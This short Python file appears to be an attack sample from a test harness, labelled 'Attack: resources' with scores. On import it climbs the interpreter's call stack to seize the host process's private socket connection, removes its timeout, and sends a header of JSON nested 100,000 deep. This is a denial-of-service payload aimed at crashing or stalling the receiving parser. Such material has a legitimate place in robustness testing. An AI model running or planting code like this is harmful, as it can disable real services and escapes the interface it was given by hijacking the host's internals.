"""Answers with JSON nested 100,000 deep and with a header of a megabyte of digits.

Attack: resources
Deserves: 80
Keeps: 10
"""

# %% extra before: sampling
import sys

def _worker():
    frame = sys._getframe()
    while frame is not None:
        if "serve_forks" in frame.f_globals and "time_limit" in frame.f_globals:
            return frame.f_globals
        frame = frame.f_back
    raise RuntimeError("the worker was not found")

def _child():
    frame = sys._getframe()
    while frame is not None:
        me = frame.f_locals.get("self")
        if type(me).__name__ == "Child":
            return me
        frame = frame.f_back
    raise RuntimeError("the child was not found")

def _nest():
    import struct
    connection = _child()._connection
    header = b'{"message": ' + b"[" * 100_000 + b"]" * 100_000 + b', "sizes": []}'
    connection.settimeout(None)
    connection.sendall(struct.pack(">4sIQ", b"VAEK", len(header), 0) + header)
_nest()
